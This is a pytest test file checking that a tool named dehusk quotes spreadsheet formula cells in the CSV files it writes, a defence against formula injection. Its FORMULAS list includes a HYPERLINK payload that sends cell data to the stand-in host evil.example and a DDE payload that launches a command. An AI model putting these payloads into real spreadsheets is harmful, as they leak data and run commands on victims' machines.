"""No cell of a CSV file that dehusk writes is a formula of a page, unless the user asks for raw cells."""

import csv
from io import StringIO
from pathlib import Path

import pytest

from command_line import dehusk as run
from dehusk.base.csv_cells import write_cells
from dehusk.sites.mining.report_tables import csv_text
from dehusk.sites.records.record_tables import write_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\n=1",
    "\uff1d1+1",
    "+49 123",
    "- tea",
    "-",
]
PLAIN = ["tea", "a=b", "'quoted", "", "-3.5", "+49", "-1e-3", "-.5", "12", " =1"]


def written(cells: list[object], *, raw_cells: bool = False) -> list[str]:
    stream = StringIO(newline="")
    write_cells(stream, ["head"], ([cell] for cell in cells), raw_cells=raw_cells)
    return [row[0] if row else "" for row in csv.reader(StringIO(stream.getvalue(), newline=""))][1:]


def test_formulas_get_a_quote_and_all_else_stays() -> None:
    assert written([*FORMULAS]) == [f"'{cell}" for cell in FORMULAS]
    assert written([*PLAIN]) == PLAIN
    assert written([-3, -0.5, None]) == ["-3", "-0.5", ""]


def test_a_cell_ends_no_row() -> None:
    assert written(["a\r=1", "\r=1", "a\r\nb"]) == ["a\n=1", "'\n=1", "a\nb"]


def test_raw_cells_are_as_they_are() -> None:
    assert written([*FORMULAS], raw_cells=True) == FORMULAS


def test_all_tables_have_the_rule_and_their_heads_too() -> None:
    stream = StringIO()
    write_csv([{"=page": ["=1", "2"]}], ["=page"], stream)
    assert stream.getvalue() == "'=page\n'=1 | 2\n"
    assert csv_text(["=page"], [["=1"], [-0.5]]) == "'=page\n'=1\n-0.500000\n"
    assert csv_text(["=page"], [["=1"]], raw_cells=True) == "=page\n=1\n"


@pytest.fixture
def shop(tmp_path: Path) -> Path:
    """A folder with pages of one template, whose notes are formulas."""
    for number in range(4):
        rows = f"<tr><td>Note:<td>=SUM({number})<tr><td>Code:<td>A{number}"
        page = f"<html><title>Tea {number}</title><body><h1>Tea {number}</h1><table>{rows}</table>"
        (tmp_path / f"{number}.html").write_text(page, "utf-8")
    return tmp_path


def test_records_as_typed(shop: Path) -> None:
    assert run("records", ".", "-q", "-f", "csv", cwd=shop).stdout.count(b"'=SUM(") == 4
    raw = run("records", ".", "-q", "-f", "csv", "--raw-cells", cwd=shop).stdout
    assert (raw.count(b"'="), raw.count(b"=SUM(")) == (0, 4)


def test_raw_cells_without_csv_are_refused(shop: Path) -> None:
    done = run("records", ".", "--raw-cells", cwd=shop)
    assert (done.returncode, done.stdout) == (2, b"")
    assert b"--raw-cells is of CSV" in done.stderr
    done = run("classify", ".", "--labels", "folder", "--save", "m", "--raw-cells", cwd=shop)
    assert (done.returncode, b"--raw-cells is of assignments.csv" in done.stderr) == (2, True)
